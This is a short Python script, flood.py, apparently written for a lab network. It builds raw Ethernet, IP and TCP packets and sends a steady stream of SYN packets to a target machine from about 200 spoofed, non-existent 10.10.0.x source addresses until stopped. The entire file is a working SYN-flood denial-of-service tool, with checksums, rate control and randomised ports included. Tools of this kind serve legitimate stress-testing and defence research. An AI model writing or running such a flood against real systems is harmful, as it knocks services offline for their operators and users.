#!/usr/bin/python3
# SPDX-License-Identifier: BSD-3-Clause
"""flood.py RATE MAC ADDRESS: so many SYN a second from eth0 to a machine, from 200 addresses that nobody has, until it is ended."""
import random
import socket
import struct
import sys
import time

rate, mac, address = int(sys.argv[1]), sys.argv[2], sys.argv[3]
own = open("/sys/class/net/eth0/address").read().strip()
ether = bytes.fromhex((mac + own).replace(":", "")) + b"\x08\x00"
rng = random.Random(1)


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xffff) + (total >> 16)
    return ~((total & 0xffff) + (total >> 16)) & 0xffff


def syn():
    ends = socket.inet_aton(f"10.10.0.{rng.randrange(50, 250)}") + socket.inet_aton(address)
    ip = struct.pack("!BBHHHBB", 0x45, 0, 40, 1, 0, 64, 6)
    ip += struct.pack("!H", checksum(ip + ends)) + ends
    head = struct.pack("!HHIIBBH", rng.randrange(1024, 65536), rng.randrange(1, 65536), rng.randrange(1 << 32), 0, 5 << 4, 2, 64240)
    return ether + ip + head + struct.pack("!HH", checksum(ends + struct.pack("!HH", 6, 20) + head), 0)


port = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
port.bind(("eth0", 0))
start, sent = time.monotonic(), 0
while True:
    while sent < (time.monotonic() - start) * rate:
        try:
            port.send(syn())
        except OSError:
            sys.exit()  # the lab is being taken down
        sent += 1
    time.sleep(0.002)
